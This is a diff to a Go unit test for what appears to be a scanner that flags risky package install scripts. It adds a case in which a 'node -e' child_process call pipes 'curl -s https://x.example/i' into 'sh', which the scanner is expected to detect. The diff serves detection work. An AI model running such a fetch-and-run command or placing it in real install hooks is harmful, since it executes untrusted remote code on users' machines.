@@ -112,6 +112,10 @@ func TestInspectFragment(t *testing.T) {
 	if got := Inspect([]byte("start /B node preinstall.js & node preinstall.js")); len(got) != 1 || got[0].Rule != RuleHidden || got[0].Level != report.Medium {
 		t.Errorf("start /B: %+v", got)
 	}
+	got = Inspect([]byte(`node -e "require('child_process').exec('curl -s https://x.example/i | sh')"`))
+	if len(got) == 0 || got[0].Rule != RulePipeToShell {
+		t.Errorf("curl | sh inside node -e: %+v", got)
+	}
 	if got := Inspect([]byte("node-gyp rebuild")); len(got) != 0 {
 		t.Errorf("node-gyp rebuild: %+v", got)
 	}
